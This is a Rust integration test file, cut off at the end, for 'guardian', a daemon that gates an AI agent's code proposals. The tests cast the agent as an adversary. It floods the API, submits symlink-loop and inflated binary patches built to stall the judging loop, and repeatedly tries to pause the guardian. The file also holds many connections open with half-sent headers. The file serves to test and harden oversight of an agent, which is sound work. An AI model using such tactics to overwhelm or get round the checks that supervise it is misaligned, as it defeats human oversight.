//! The gate against whoever holds the agent's token, on the real binary started by hand under
//! umask 022 (as the README shows): a flood of reads and proposals is answered with 429s while
//! the decision loop keeps its pace; the state directory and the approval links stay private;
//! what the agent wrote is shown as it is, never as it pretends to be; refusals are counted,
//! not written one by one; and the checkpoint in an email as delivered verifies the trail.

use std::collections::BTreeMap;
use std::os::unix::fs::{DirBuilderExt as _, PermissionsExt as _};
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use guardian::gate::proposals::{NewProposal, ProposalState};
use guardian::store::{ChangeKind, ChangeState, NewChange, Store};
use serde_json::{json, Value};

use super::rollback::{git, now, smtp_server};

const ADMIN: &str = "admin-token-0123456789abcdef";
const AGENT: &str = "agent-token-0123456789abcdef";
const ALICE: &str = "alice-token-0123456789abcdef";

const POLICY: &str = "[paths]\nallow = [\"src/**\"]\ndeny = [\"migrations/**\"]\n\
                      [limits]\nmax_files = 5\nmax_lines = 40\n\
                      [content]\nnew_dependencies = \"deny\"\nschema_changes = \"deny\"\n\
                      [risk]\nauto_below = 50\n[trust]\npromote_after = 10\n";

/// Writes a record into a new state database before the daemon starts.
type Seed = Box<dyn FnOnce(&mut Store)>;

/// What a test sets up besides the defaults.
#[derive(Default)]
struct Setup {
    /// Lines appended to the configuration, after the `[daemon.gate]` keys.
    extra: String,
    /// The record a long-running guardian would have, stored before it starts.
    seed: Option<Seed>,
    /// Environment for the daemon.
    envs: Vec<(&'static str, PathBuf)>,
    /// Ten minutes of healthy traffic in the access log before the daemon starts.
    history: bool,
    /// Seconds the redeploy hook hangs before it deploys.
    hook_hangs_secs: u32,
}

/// A guardian with the gate: its own clone of the app, the agent's clone, a token per role.
struct Guardian {
    dir: tempfile::TempDir,
    repo: PathBuf,
    agent_repo: PathBuf,
    state: PathBuf,
    config: PathBuf,
    api: String,
    daemon: Option<Child>,
}

/// A scratch directory, in memory when the machine has one: seeding a long record makes
/// thousands of transactions, each flushed to disk.
fn scratch() -> tempfile::TempDir {
    let shm = Path::new("/dev/shm");
    let base = if shm.is_dir() {
        shm.to_path_buf()
    } else {
        std::env::temp_dir()
    };
    tempfile::Builder::new()
        .prefix("guardian-it-")
        .tempdir_in(base)
        .unwrap()
}

/// `guardian run --config <config>` as a person starts it by hand, under umask 022.
fn run_by_hand(config: &Path) -> Command {
    let mut command = Command::new("sh");
    command
        .args(["-c", "umask 022 && exec \"$0\" run --config \"$1\""])
        .arg(env!("CARGO_BIN_EXE_guardian"))
        .arg(config);
    command
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o777
}

impl Guardian {
    /// Writes everything but does not start the daemon.
    fn prepare(setup: &mut Setup) -> Guardian {
        let dir = scratch();
        let repo = dir.path().join("app");
        std::fs::create_dir_all(repo.join("src")).unwrap();
        git(&repo, &["init", "-q", "-b", "main"]);
        std::fs::write(repo.join("src/settings.txt"), "timeout_ms = 500\n").unwrap();
        // What the app serves: `broken` makes it fail; the hook deploys it to `live-mode`.
        std::fs::write(repo.join("mode"), "ok\n").unwrap();
        std::fs::write(dir.path().join("live-mode"), "ok\n").unwrap();
        std::fs::write(
            dir.path().join("redeploy.sh"),
            match setup.hook_hangs_secs {
                0 => "#!/bin/sh\nset -e\ncp \"$GUARDIAN_REPO/mode\" \"$LIVE\"\n".to_owned(),
                secs => format!(
                    "#!/bin/sh\nset -e\nsleep {secs}\ncp \"$GUARDIAN_REPO/mode\" \"$LIVE\"\n"
                ),
            },
        )
        .unwrap();
        git(&repo, &["add", "."]);
        git(&repo, &["commit", "-q", "-m", "first release"]);
        let agent_repo = dir.path().join("agent");
        git(
            dir.path(),
            &[
                "clone",
                "-q",
                repo.to_str().unwrap(),
                agent_repo.to_str().unwrap(),
            ],
        );
        for (name, token) in [
            ("token", ADMIN),
            ("agent.token", AGENT),
            ("alice.token", ALICE),
        ] {
            std::fs::write(dir.path().join(name), token).unwrap();
            std::fs::set_permissions(
                dir.path().join(name),
                std::fs::Permissions::from_mode(0o600),
            )
            .unwrap();
        }
        std::fs::write(dir.path().join("policy.toml"), POLICY).unwrap();
        let log = dir.path().join("access.jsonl");
        if setup.history {
            super::rollback::write_healthy_history(&log);
        } else {
            std::fs::write(&log, "").unwrap();
        }
        let state = dir.path().join("state");
        if let Some(seed) = setup.seed.take() {
            std::fs::DirBuilder::new()
                .mode(0o700)
                .create(&state)
                .unwrap();
            let mut store = Store::open(&state.join("guardian.db")).unwrap();
            seed(&mut store);
        }
        let config = dir.path().join("guardian.toml");
        std::fs::write(
            &config,
            format!(
                "[detector]\nbaseline_secs = 600\nwatch_secs = 300\n\n\
                 [daemon]\nservice = \"shop\"\nstate_dir = {state:?}\nlisten = \"127.0.0.1:0\"\n\
                 token_file = {admin:?}\n\n\
                 [[daemon.logs]]\npath = {log:?}\n\n\
                 [daemon.rollback]\nrepo = {repo:?}\nhook = [\"sh\", {hook:?}]\n\
                 hook_timeout_secs = 30\nverify_secs = 8\n\n\
                 [daemon.gate]\npolicy_file = {policy:?}\nagent_token_file = {agent:?}\n\
                 approvers = {{ alice = {alice:?} }}\n{extra}",
                admin = dir.path().join("token"),
                agent = dir.path().join("agent.token"),
                alice = dir.path().join("alice.token"),
                policy = dir.path().join("policy.toml"),
                hook = dir.path().join("redeploy.sh"),
                extra = setup.extra,
            ),
        )
        .unwrap();
        Guardian {
            dir,
            repo,
            agent_repo,
            state,
            config,
            api: String::new(),
            daemon: None,
        }
    }

    fn start(mut setup: Setup) -> Guardian {
        let mut g = Guardian::prepare(&mut setup);
        let mut command = run_by_hand(&g.config);
        command.env("LIVE", g.dir.path().join("live-mode"));
        for (k, v) in &setup.envs {
            command.env(k, v);
        }
        let (daemon, api) = super::common::spawn(command);
        g.daemon = Some(daemon);
        g.api = api;
        g
    }

    /// Stops the daemon as systemd does (SIGTERM) and waits for it.
    fn stop(&mut self) {
        let Some(mut daemon) = self.daemon.take() else {
            return;
        };
        let term = Command::new("kill")
            .args(["-TERM", &daemon.id().to_string()])
            .status()
            .unwrap();
        assert!(term.success());
        let deadline = Instant::now() + Duration::from_secs(30);
        while daemon.try_wait().unwrap().is_none() {
            assert!(Instant::now() < deadline, "the daemon did not stop");
            thread::sleep(Duration::from_millis(100));
        }
    }

    /// The app served for real on the access log, and a client sending it 20 requests a
    /// second until the flag is set.
    fn traffic(&self) -> (Arc<AtomicBool>, thread::JoinHandle<()>) {
        let app = super::rollback::serve_app(
            self.dir.path().join("access.jsonl"),
            self.dir.path().join("live-mode"),
        );
        let stop = Arc::new(AtomicBool::new(false));
        let client = super::rollback::drive(app, stop.clone());
        (stop, client)
    }

    fn token_file(&self, token: &str) -> PathBuf {
        let name = match token {
            ADMIN => "token",
            AGENT => "agent.token",
            _ => "alice.token",
        };
        self.dir.path().join(name)
    }

    fn cli(&self, token: &str, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_guardian"))
            .args(args)
            .args(["--api", &self.api, "--token-file"])
            .arg(self.token_file(token))
            .output()
            .unwrap()
    }

    fn on_host(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_guardian"))
            .args(args)
            .arg("--config")
            .arg(&self.config)
            .output()
            .unwrap()
    }

    /// The agent commits a fix in its own clone: `file` gets `content`.
    fn agent_commits(&self, file: &str, content: &str, message: &str) -> String {
        std::fs::write(self.agent_repo.join(file), content).unwrap();
        git(&self.agent_repo, &["add", "-A"]);
        git(&self.agent_repo, &["commit", "-q", "-m", message]);
        git(&self.agent_repo, &["rev-parse", "HEAD"])
    }

    /// `guardian propose` as the agent; the daemon's JSON answer.
    fn propose(&self, commit: &str, pattern: &str, summary: &str) -> Value {
        let out = self.cli(
            AGENT,
            &[
                "propose",
                "--repo",
                self.agent_repo.to_str().unwrap(),
                "--commit",
                commit,
                "--pattern",
                pattern,
                "--summary",
                summary,
                "--json",
            ],
        );
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "not JSON ({e}): {}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        })
    }

    /// The request to propose `commit` (its diff from its parent), as the API takes it.
    fn proposal_body(&self, commit: &str, summary: &str) -> Value {
        let out = Command::new("git")
            .arg("-C")
            .arg(&self.agent_repo)
            .args([
                "diff",
                "--full-index",
                "--binary",
                &format!("{commit}^"),
                commit,
            ])
            .output()
            .unwrap();
        json!({
            "pattern": "timeout-bump",
            "summary": summary,
            "base": git(&self.agent_repo, &["rev-parse", &format!("{commit}^")]),
            "commit": commit,
            "patch": String::from_utf8(out.stdout).unwrap(),
        })
    }

    /// A request with `token`: its status, its `Retry-After` (seconds) and its JSON.
    fn call(
        &self,
        token: &str,
        method: &str,
        path: &str,
        body: Option<&Value>,
    ) -> (u16, Option<u64>, Value) {
        call(&self.api, token, method, path, body)
    }

    /// The agent's refusals on the audit trail.
    fn refusals(&self) -> Vec<Value> {
        let out = self.on_host(&["audit", "export"]);
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|r| r["kind"] == "access_refused" && r["actor"] == "agent")
            .collect()
    }
}

impl Drop for Guardian {
    fn drop(&mut self) {
        if let Some(mut daemon) = self.daemon.take() {
            let _ = daemon.kill();
            let _ = daemon.wait();
        }
    }
}

fn call(
    api: &str,
    token: &str,
    method: &str,
    path: &str,
    body: Option<&Value>,
) -> (u16, Option<u64>, Value) {
    let req = ureq::request(method, &format!("{api}{path}"))
        .set("Authorization", &format!("Bearer {token}"))
        .timeout(Duration::from_secs(120));
    let res = match body {
        Some(b) => req.send_json(b.clone()),
        None => req.call(),
    };
    let read = |r: ureq::Response| {
        let retry = r.header("Retry-After").map(|v| {
            v.parse::<u64>()
                .unwrap_or_else(|_| panic!("Retry-After {v:?} is not whole seconds"))
        });
        (r.status(), retry, r.into_json().unwrap_or(Value::Null))
    };
    match res {
        Ok(r) => read(r),
        Err(ureq::Error::Status(_, r)) => read(r),
        Err(e) => panic!("{method} {path}: {e}"),
    }
}

/// A `[daemon.mail]` section sending to the SMTP server at `smtp`.
fn mail_config(smtp: std::net::SocketAddr) -> String {
    format!(
        "\n[daemon.mail]\nfrom = \"guardian@example.com\"\nto = [\"oncall@example.com\"]\n\
         smtp_host = \"{}\"\nsmtp_port = {}\nsecurity = \"none\"\n",
        smtp.ip(),
        smtp.port()
    )
}

/// The first email containing `needle`, exactly as the SMTP server received it.
fn wait_for_raw_mail(inbox: &Arc<Mutex<Vec<String>>>, needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let found = inbox
            .lock()
            .unwrap()
            .iter()
            .find(|m| m.contains(needle))
            .cloned();
        if let Some(m) = found {
            return m;
        }
        assert!(
            Instant::now() < deadline,
            "no email with {needle:?} arrived"
        );
        thread::sleep(Duration::from_millis(200));
    }
}

/// A guardian's record after months of work: `n` proposals, most denied, one in ten approved,
/// deployed and found healthy (but, with `rollback`, the one half way, which regressed).
fn long_record(n: usize, rollback: bool) -> Seed {
    Box::new(move |store: &mut Store| {
        let at = now() - 30.0 * 86_400.0;
        for i in 0..n {
            let t = at + i as f64;
            let healthy = i % 10 == 0;
            let verdict = if rollback && i == n / 20 * 10 {
                ChangeState::Regressed
            } else {
                ChangeState::Healthy
            };
            let p = store
                .insert_proposal(
                    &NewProposal {
                        proposer: "agent".into(),
                        kind: ChangeKind::Ai,
                        pattern: if healthy { "timeout-bump" } else { "nil-check" }.into(),
                        summary: format!("fix {i}"),
                        issue_url: None,
                        tests_run: true,
                        base_sha: "0".repeat(40),
                        claimed_sha: None,
                        patch: format!("patch {i}"),
                        diff_hash: format!("{i:064}"),
                        decision: if healthy { "needs_approval" } else { "deny" }.into(),
                        assessment: json!({}),
                        shadow: false,
                        state: if healthy {
                            ProposalState::Pending
                        } else {
                            ProposalState::Denied
                        },
                        tree_sha: healthy.then(|| "e".repeat(40)),
                        sentry_issue: None,
                        flag: None,
                    },
                    t,
                )
                .unwrap();
            if !healthy {
                continue;
            }
            store
                .decide_proposal(&p.id, true, "approver:alice", &p.diff_hash, None, t)
                .unwrap();
            store
                .advance_proposal(&p.id, ProposalState::Deploying, None, None, json!({}), t)
                .unwrap();
            let change = store
                .insert_change(
                    &NewChange {
                        commit: format!("{i:040x}"),
                        kind: ChangeKind::Ai,
                        pattern: Some("timeout-bump".into()),
                        summary: None,
                        landed_at: t,
                        fixes_issue: None,
                        flag: None,
                    },
                    t,
                )
                .unwrap();
            store
                .advance_proposal(
                    &p.id,
                    ProposalState::Deployed,
                    Some(&change.id),
                    None,
                    json!({}),
                    t,
                )
                .unwrap();
            store
                .set_state(&change.id, verdict, None, Some(t), None, t)
                .unwrap();
        }
    })
}

/// Collects the watchdog pings a daemon sends to a socket standing in for systemd's.
struct Watchdog {
    _dir: tempfile::TempDir,
    socket: PathBuf,
    pings: Arc<Mutex<Vec<Instant>>>,
    stop: Arc<AtomicBool>,
}

impl Watchdog {
    fn new() -> Watchdog {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("notify");
        let sock = UnixDatagram::bind(&socket).unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let pings = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (p, s) = (pings.clone(), stop.clone());
        thread::spawn(move || {
            let mut buf = [0u8; 512];
            while !s.load(Ordering::Relaxed) {
                if let Ok(n) = sock.recv(&mut buf) {
                    if String::from_utf8_lossy(&buf[..n]).contains("WATCHDOG=1") {
                        p.lock().unwrap().push(Instant::now());
                    }
                }
            }
        });
        Watchdog {
            _dir: dir,
            socket,
            pings,
            stop,
        }
    }

    /// The environment that asks the daemon to ping every second (half of 2 s).
    fn envs(&self) -> Vec<(&'static str, PathBuf)> {
        vec![
            ("NOTIFY_SOCKET", self.socket.clone()),
            ("WATCHDOG_USEC", PathBuf::from("2000000")),
        ]
    }

    /// The longest time without a ping between `from` and `to`.
    fn longest_silence(&self, from: Instant, to: Instant) -> Duration {
        let pings = self.pings.lock().unwrap();
        let mut last = from;
        let mut longest = Duration::ZERO;
        for &p in pings.iter().filter(|&&p| p > from && p <= to) {
            longest = longest.max(p - last);
            last = p;
        }
        longest.max(to.saturating_duration_since(last))
    }
}

impl Drop for Watchdog {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

#[test]
fn an_agent_flooding_reads_and_proposals_gets_429s_and_the_decision_loop_keeps_its_pace() {
    let watchdog = Watchdog::new();
    let g = Guardian::start(Setup {
        seed: Some(long_record(2000, false)),
        envs: watchdog.envs(),
        ..Setup::default()
    });
    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let proposal = Arc::new(g.proposal_body(&fix, "raise the checkout timeout"));
    thread::sleep(Duration::from_secs(2));

    // 64 agent clients, for 15 s: the ledger, the listing, the status, and proposals.
    let start = Instant::now();
    let deadline = start + Duration::from_secs(15);
    let clients: Vec<_> = (0..64)
        .map(|i| {
            let (api, proposal) = (g.api.clone(), proposal.clone());
            thread::spawn(move || {
                let mut answers = Vec::new();
                let mut n = i;
                while Instant::now() < deadline {
                    let (code, retry, _) = match n % 4 {
                        0 => call(&api, AGENT, "GET", "/v1/trust", None),
                        1 => call(&api, AGENT, "GET", "/v1/proposals", None),
                        2 => call(&api, AGENT, "GET", "/v1/status", None),
                        _ => call(&api, AGENT, "POST", "/v1/proposals", Some(&proposal)),
                    };
                    answers.push((code, retry));
                    n += 1;
                }
                answers
            })
        })
        .collect();
    let answers: Vec<(u16, Option<u64>)> = clients
        .into_iter()
        .flat_map(|c| c.join().unwrap())
        .collect();
    let end = Instant::now();

    let mut codes: BTreeMap<u16, usize> = BTreeMap::new();
    for (code, _) in &answers {
        *codes.entry(*code).or_default() += 1;
    }
    // The agent is slowed down, and told for how long.
    assert!(codes.get(&429).is_some_and(|&n| n > 0), "{codes:?}");
    assert!(
        answers
            .iter()
            .filter(|(c, _)| *c == 429)
            .all(|(_, retry)| retry.is_some_and(|s| s >= 1)),
        "every 429 says when to come back"
    );
    assert!(
        codes.keys().all(|c| [200, 201, 429].contains(c)),
        "{codes:?}"
    );
    // guardian is not: its loop reads the logs and judges every second throughout (systemd's
    // watchdog, at 30 s, would have killed a stalled one).
    let silence = watchdog.longest_silence(start, end);
    assert!(
        silence < Duration::from_secs(5),
        "the decision loop went {silence:?} without a tick during the flood ({codes:?})"
    );
    // An agent that waits as told is served again.
    thread::sleep(Duration::from_secs(2));
    let (code, _, ledger) = g.call(AGENT, "GET", "/v1/trust", None);
    assert_eq!(code, 200, "{ledger}");
    let bump = ledger
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["pattern"] == "timeout-bump")
        .unwrap();
    assert_eq!(
        (bump["healthy"].as_u64(), bump["level"].as_str()),
        (Some(200), Some("auto"))
    );
}

/// A symlink as `git diff` writes it, by hand: git stores any target, however long.
fn link_section(path: &str, target: &str) -> String {
    let blob = git_hash_object(target.as_bytes());
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 120000\nindex {}..{blob}\n--- /dev/null\n\
         +++ b/{path}\n@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n",
        "0".repeat(40)
    )
}

fn git_hash_object(bytes: &[u8]) -> String {
    use std::io::Write as _;
    let mut child = Command::new("git")
        .args(["hash-object", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    String::from_utf8(child.wait_with_output().unwrap().stdout)
        .unwrap()
        .trim()
        .to_owned()
}

#[test]
fn proposals_built_to_be_costly_to_judge_are_denied_on_the_record_and_the_loop_keeps_its_pace() {
    let watchdog = Watchdog::new();
    let g = Guardian::start(Setup {
        envs: watchdog.envs(),
        ..Setup::default()
    });
    let base = git(&g.agent_repo, &["rev-parse", "HEAD"]);
    let body = |patch: String, summary: &str| json!({"pattern": "other", "summary": summary, "base": base, "patch": patch});
    // 1. A link whose target is 200,000 bytes of `/.` that come back to itself, and 60 links
    //    through it. (Before: each took 0.7 s to follow, 44 s in all on the decision loop.)
    let mut bomb = link_section("src/l/a", &format!("a{}", "/.".repeat(100_000)));
    for i in 0..60 {
        bomb.push_str(&link_section(&format!("src/l/b{i}"), "a"));
    }
    // 2. A loop within the kernel's limit that walks 1,601 components a hop, and 400 links
    //    through it: 26 million steps to follow them all.
    let walk = format!("{}a", "b/../".repeat(800));
    let mut walks = link_section("src/m/a", &walk);
    for i in 0..400 {
        walks.push_str(&link_section(&format!("src/m/b{i}"), "a"));
    }
    // 3. 15 MiB of SQL sent as a binary patch (the agent's git is told the file is binary): a
    //    few hundred KiB on the wire, the whole text for the rules to read.
    std::fs::write(g.agent_repo.join(".git/info/attributes"), "*.sql binary\n").unwrap();
    let sql = "SELECT id, name FROM accounts WHERE id = 1;\n".repeat((15 << 20) / 44);
    let sql_commit = g.agent_commits("src/report.sql", &sql, "a report");
    let inflating = g.proposal_body(&sql_commit, "a report")["patch"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        inflating.contains("GIT binary patch"),
        "{}",
        &inflating[..200]
    );

    let start = Instant::now();
    let mut denied = Vec::new();
    for (patch, summary) in [
        (bomb, "link helpers"),
        (walks, "more link helpers"),
        (inflating, "a report"),
    ] {
        let (code, _, p) = g.call(AGENT, "POST", "/v1/proposals", Some(&body(patch, summary)));
        assert_eq!(code, 201, "{p}");
        assert_eq!(p["decision"], "deny", "{p:#}");
        denied.push(p);
    }
    let end = Instant::now();

    let why = |p: &Value| p["assessment"]["rules"].to_string();
    assert!(
        why(&denied[0]).contains("longer than the 4095 bytes a kernel allows"),
        "{}",
        why(&denied[0])
    );
    assert!(
        why(&denied[1]).contains("take more than 1000000 steps to follow"),
        "{}",
        why(&denied[1])
    );
    assert!(
        why(&denied[2]).contains("sent as a binary patch but is text"),
        "{}",
        why(&denied[2])
    );
    // On the record, as any denied proposal is.
    let (_, _, listed) = g.call(ADMIN, "GET", "/v1/proposals", None);
    for p in &denied {
        assert!(
            listed
                .as_array()
                .unwrap()
                .iter()
                .any(|l| l["id"] == p["id"]),
            "{} is not listed",
            p["id"]
        );
    }
    let silence = watchdog.longest_silence(start, end);
    assert!(
        silence < Duration::from_secs(3),
        "the decision loop went {silence:?} without a tick while the proposals were judged \
         ({:.1} s in all)",
        (end - start).as_secs_f64()
    );
}

#[test]
fn holding_every_connection_with_half_sent_headers_does_not_keep_a_deploy_s_notify_out() {
    let g = Guardian::start(Setup::default());
    let addr = g.api.trim_start_matches("http://").to_owned();
    // 400 clients without a token, each holding a connection with half-sent headers, one
    // more header line every second, reconnecting at once when closed: three times the
    // connections guardian serves at once.
    let stop = Arc::new(AtomicBool::new(false));
    let holders: Vec<_> = (0..400)
        .map(|_| {
            let (addr, stop) = (addr.clone(), stop.clone());
            thread::spawn(move || {
                use std::io::Write as _;
                while !stop.load(Ordering::Relaxed) {
                    let Ok(mut s) = std::net::TcpStream::connect(&addr) else {
                        thread::sleep(Duration::from_millis(20));
                        continue;
                    };
                    let _ = s.write_all(b"GET /v1/status HTTP/1.1\r\nHost: x\r\n");
                    while !stop.load(Ordering::Relaxed) && s.write_all(b"X-a: b\r\n").is_ok() {
                        thread::sleep(Duration::from_secs(1));
                    }
                }
            })
        })
        .collect();
    thread::sleep(Duration::from_secs(3));

    // The deploy's notify, and the operator's status, go through: answered, and well before
    // the CLI's own 10 s timeout would have given up. (Usually within a second; the bound
    // leaves room for a loaded 2-core CI machine, where 3 s was once missed by 36 ms.)
    let head = git(&g.repo, &["rev-parse", "HEAD"]);
    for args in [
        vec!["notify", "--commit", head.as_str()],
        vec!["status"],
        vec!["notify", "--commit", head.as_str()],
    ] {
        let asked = Instant::now();
        let out = g.cli(ADMIN, &args);
        let took = asked.elapsed();
        assert!(
            out.status.code().is_some_and(|c| c != 4),
            "{args:?} could not reach guardian: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(took < Duration::from_secs(8), "{args:?} took {took:?}");
    }
    stop.store(true, Ordering::Relaxed);
    for h in holders {
        h.join().unwrap();
    }
}

/// Calls `GET /v1/status` as the operator every 100 ms until `stop`; the slowest answer.
fn slowest_status_answer(api: String, stop: Arc<AtomicBool>) -> thread::JoinHandle<Duration> {
    thread::spawn(move || {
        let mut slowest = Duration::ZERO;
        while !stop.load(Ordering::Relaxed) {
            let asked = Instant::now();
            let (code, _, status) = call(&api, ADMIN, "GET", "/v1/status", None);
            assert_eq!(code, 200, "{status}");
            slowest = slowest.max(asked.elapsed());
            thread::sleep(Duration::from_millis(100));
        }
        slowest
    })
}

#[test]
fn a_hung_hook_or_git_delays_neither_ticks_nor_api_answers_nor_watchdog_pings() {
    let watchdog = Watchdog::new();
    // git as guardian finds it on its PATH: the real one, except that the first git started
    // once `hang-git` exists hangs for 8 s (a network filesystem stalling, a lock held
    // elsewhere).
    let bin = tempfile::tempdir().unwrap();
    let hang = bin.path().join("hang-git");
    let real_git = String::from_utf8(
        Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    std::fs::write(
        bin.path().join("git"),
        format!(
            "#!/bin/sh\nrm {hang:?} 2>/dev/null && sleep 8\nexec {} \"$@\"\n",
            real_git.trim()
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        bin.path().join("git"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        bin.path().display(),
        std::env::var("PATH").unwrap()
    );
    let mut envs = watchdog.envs();
    envs.push(("PATH", PathBuf::from(path)));
    // The redeploy hook hangs for 10 s (its timeout is 30 s) before it deploys.
    let g = Guardian::start(Setup {
        envs,
        history: true,
        hook_hangs_secs: 10,
        ..Setup::default()
    });
    let (traffic_stop, traffic) = g.traffic();
    thread::sleep(Duration::from_secs(2));

    // A rollback whose hook hangs: reverted, then 10 s in the hook, then the recovery check.
    let start = Instant::now();
    let asking = Arc::new(AtomicBool::new(false));
    let answers = slowest_status_answer(g.api.clone(), asking.clone());
    let reverted_in = time_to_revert(&g);
    let rollback_done = Instant::now();
    assert!(
        rollback_done - start >= Duration::from_secs(10),
        "the hook did not hang: the rollback took {:?}",
        rollback_done - start
    );

    // A proposal whose judging git hangs for 8 s.
    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let body = g.proposal_body(&fix, "raise the checkout timeout");
    std::fs::write(&hang, "").unwrap();
    let proposed = Instant::now();
    let (code, _, proposal) = g.call(AGENT, "POST", "/v1/proposals", Some(&body));
    let judged_in = proposed.elapsed();
    assert_eq!(code, 201, "{proposal}");
    assert!(!hang.exists(), "judging ran no git");
    assert!(
        judged_in >= Duration::from_secs(8),
        "git did not hang: judged in {judged_in:?}"
    );
    let end = Instant::now();
    asking.store(true, Ordering::Relaxed);
    let slowest = answers.join().unwrap();
    traffic_stop.store(true, Ordering::Relaxed);
    traffic.join().unwrap();

    // Throughout, the loop read the logs and judged every second, and the API answered.
    let silence = watchdog.longest_silence(start, end);
    assert!(
        silence < Duration::from_secs(3),
        "the decision loop went {silence:?} without a tick (revert in {reverted_in:.1} s)"
    );
    assert!(
        slowest < Duration::from_secs(2),
        "a status request took {slowest:?}"
    );
}

#[test]
fn refused_requests_are_counted_on_the_audit_trail_not_written_one_by_one() {
    let mut g = Guardian::start(Setup::default());
    let before = g.refusals().len();
    let start = Instant::now();
    let mut codes: BTreeMap<u16, u64> = BTreeMap::new();
    for _ in 0..3000 {
        let (code, _, _) = g.call(AGENT, "POST", "/v1/pause", Some(&json!({ "why": "mine" })));
        *codes.entry(code).or_default() += 1;
    }
    let windows = 1 + start.elapsed().as_secs() / 60;
    assert!(codes.keys().all(|c| [403, 429].contains(c)), "{codes:?}");
    let during = g.refusals();
    assert!(
        during.len() - before <= 2 * windows as usize,
        "{} records for {codes:?}",
        during.len() - before
    );
    // The first attempt is on the record at once, with who tried what.
    assert_eq!(
        during[before]["detail"]["forbidden"]["Pause"], 1,
        "{during:?}"
    );

    // Stopped, guardian writes what it counted since: all 3000, in a record or two.
    g.stop();
    let after = g.refusals();
    let total: u64 = after[before..]
        .iter()
        .map(|r| r["detail"]["refused"].as_u64().unwrap())
        .sum();
    assert_eq!(total, 3000, "{after:?}");
    assert!(
        after.len() - before <= 2 * windows as usize + 1,
        "{after:?}"
    );
    let verify = g.on_host(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0));
}

#[test]
fn run_by_hand_under_umask_022_the_state_is_private_and_no_link_secret_is_stored() {
    let (smtp, inbox) = smtp_server();
    let g = Guardian::start(Setup {
        extra: format!(
            "approval_base_url = \"http://guardian.example\"\n{}",
            mail_config(smtp)
        ),
        ..Setup::default()
    });
    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let p = g.propose(&fix, "timeout-bump", "raise the timeout");
    assert_eq!(p["state"], "pending", "{p}");
    let id = p["id"].as_str().unwrap();

    let raw = wait_for_raw_mail(&inbox, id);
    let email = mail_parser::MessageParser::default()
        .parse(raw.as_bytes())
        .unwrap();
    let text = email.body_text(0).unwrap().into_owned();
    let secret = text
        .lines()
        .filter_map(|l| l.trim().strip_prefix("approve:"))
        .filter_map(|u| u.trim().strip_prefix("http://guardian.example/v1/links/"))
        .next()
        .unwrap_or_else(|| panic!("no approve link in:\n{text}"))
        .to_owned();
    assert!(
        secret.len() == 64 && secret.bytes().all(|b| b.is_ascii_hexdigit()),
        "{secret}"
    );
    // The link in the email is a real one.
    let page = ureq::get(&format!("{}/v1/links/{secret}", g.api))
        .call()
        .unwrap()
        .into_string()
        .unwrap();
    assert!(page.contains("timeout_ms = 800"), "{page}");

    // Only guardian's user can get into the state directory or read anything in it.
    assert_eq!(mode(&g.state), 0o700);
    let files: Vec<PathBuf> = std::fs::read_dir(&g.state)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    for name in [
        "guardian.db",
        "guardian.db-wal",
        "guardian.db-shm",
        "audit-signing.key",
        "core-state.json",
    ] {
        assert!(files.contains(&g.state.join(name)), "{name} in {files:?}");
    }
    for f in &files {
        assert_eq!(mode(f) & 0o077, 0, "{} is {:o}", f.display(), mode(f));
    }
    // And the secret that opens the link is nowhere in it: not in the database, its WAL, the
    // outbox that queued the email.
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "the link's secret is stored in clear in {}",
            f.display()
        );
    }
}

#[test]
fn a_state_directory_others_can_read_is_refused_at_start_with_the_fix() {
    let g = Guardian::prepare(&mut Setup::default());
    std::fs::create_dir(&g.state).unwrap();
    std::fs::set_permissions(&g.state, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut daemon = run_by_hand(&g.config)
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while daemon.try_wait().unwrap().is_none() && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(100));
    }
    if daemon.try_wait().unwrap().is_none() {
        let _ = daemon.kill();
        let _ = daemon.wait();
        panic!("guardian started on a state directory every user can read");
    }
    let out = daemon.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!("chmod 700 {}", g.state.display())),
        "{err}"
    );
